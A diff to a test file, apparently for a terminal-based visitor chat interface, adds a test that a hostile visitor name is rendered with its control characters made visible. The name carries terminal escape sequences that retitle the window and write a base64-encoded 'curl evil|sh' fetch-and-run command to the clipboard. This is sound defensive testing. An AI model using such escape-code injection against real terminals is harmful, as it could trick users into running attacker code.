@@ -143,6 +143,22 @@ t.test('earlier visits: asked for the selected visitor, shown newest first with 
   t.equal(h.state.overlay, undefined, 'outside the overlays these do nothing');
 });
 
+t.test('a hostile visitor name in the overlays\' titles reaches the terminal made visible, never as escape codes', async (t) => {
+  const name = 'Eve\u001b]0;PWNED\u0007\u001b]52;c;Y3VybCBldmlsfHNoCg==\u0007';
+  const h = harness([visitor({name})]);
+  h.state = reducer(h.state, {type: 'focus', focus: 'visitors'});
+  h.do({c: 'visits'});
+  h.hub({t: 'visitor.visits', visitorId: 'v1abcdef', visits: [visit(NOW, ['Home'])]});
+  const visits = frame({...h.state, size: {cols: 120, rows: 24}});
+  t.notMatch(visits, /\u001b\]|\u0007/, 'no OSC sequence or bell in the visits overlay');
+  t.match(visits, 'Visits of Eve␛]0;PWNED␇␛]52;c;', 'the name shown with its control characters visible');
+  h.do({c: 'escape'});
+  h.state = {...h.state, overlay: {kind: 'history', visitorId: 'v1abcdef', index: 0}};
+  const history = frame({...h.state, size: {cols: 120, rows: 24}});
+  t.notMatch(history, /\u001b\]|\u0007/, 'none in the earlier chats overlay either');
+  t.match(history, 'Earlier chats of Eve␛]0;PWNED␇');
+});
+
 t.test('earlier chats: the key shows only for a visitor who chatted before; Enter opens one read-only', async (t) => {
   const h = harness();
   mine(h);
